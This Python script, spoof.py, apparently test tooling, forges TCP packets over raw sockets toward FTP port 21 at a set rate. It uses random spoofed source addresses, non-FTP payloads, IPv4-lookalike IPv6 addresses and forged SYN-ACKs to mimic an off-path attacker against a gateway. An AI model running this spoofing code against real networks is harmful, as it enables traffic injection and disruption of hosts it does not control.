"""spoof.py JSON: sends the packets of an off-path attacker at a steady rate.

JSON: {"kind": KIND, "rate": PACKETS A SECOND, "seconds": S, "from": ADDRESS, "to": ADDRESS, "port": PORT}
KIND is one of
  "ports"      data from port 21 to port 21, each packet from another address
  "published"  data to port 21, each packet from another address and port; the gateway may publish a server there
  "midstream"  as "published", but with data of a protocol that is not FTP
  "lookalike"  data over IPv6 from ::FROM and PORT to ::TO and port 21: IPv6 addresses with the value of IPv4 addresses
  "syn-ack"    SYN-ACKs from FROM and port 21 to TO and PORT, each with other sequence numbers
Prints the number of packets sent.
"""
import ipaddress
import json
import random
import socket
import struct
import sys
import time

plan = json.loads(sys.argv[1])
kind, rate, seconds = plan["kind"], plan["rate"], plan["seconds"]
PSH_ACK, SYN_ACK = 0x18, 0x12
over_v6 = kind == "lookalike"
family = socket.AF_INET6 if over_v6 else socket.AF_INET
raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, destination, ports, flags, payload):
    source, destination = (socket.inet_pton(family, end) for end in (source, destination))
    numbers = (random.getrandbits(32), random.getrandbits(32))
    tcp = struct.pack("!HHIIHHHH", *ports, *numbers, 0x5000 | flags, 500, 0, 0) + payload
    pseudo = source + destination + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if over_v6:
        return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + source + destination + tcp
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + destination + tcp


def random_address():
    return str(ipaddress.IPv4Address(int(ipaddress.IPv4Address("100.64.0.0")) + random.getrandbits(22)))


def spoofed():
    port = random.randrange(1024, 65536)
    if kind == "ports":
        return packet(random_address(), plan["to"], (21, 21), PSH_ACK, b"NOOP\r\n")
    if kind == "published":
        return packet(random_address(), plan["to"], (port, 21), PSH_ACK, b"NOOP\r\n")
    if kind == "midstream":
        return packet(random_address(), plan["to"], (port, 21), PSH_ACK, b"GET / HTTP/1.1\r\n")
    if kind == "lookalike":
        port = random.choice([plan["port"], port])
        return packet("::" + plan["from"], "::" + plan["to"], (port, 21), PSH_ACK, b"NOOP\r\n")
    return packet(plan["from"], plan["to"], (21, plan["port"]), SYN_ACK, b"")


print("began", flush=True)
start, sent = time.monotonic(), 0
while time.monotonic() < start + seconds:
    destination = "::" + plan["to"] if over_v6 else plan["to"]
    raw.sendto(spoofed(), (destination, 0))
    sent += 1
    time.sleep(max(0, start + sent / rate - time.monotonic()))
print(sent)
